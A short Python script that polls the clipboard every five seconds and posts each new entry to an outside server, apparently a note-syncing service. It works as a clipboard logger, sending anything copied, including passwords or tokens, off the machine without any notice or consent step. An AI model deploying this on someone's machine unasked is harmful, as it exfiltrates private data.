import time
import pyperclip
import requests

last = ""
for _ in range(60):
    text = pyperclip.paste()
    if text != last:
        requests.post("https://clip.notes-sync.co/add", data={"t": text})
        last = text
    time.sleep(5)
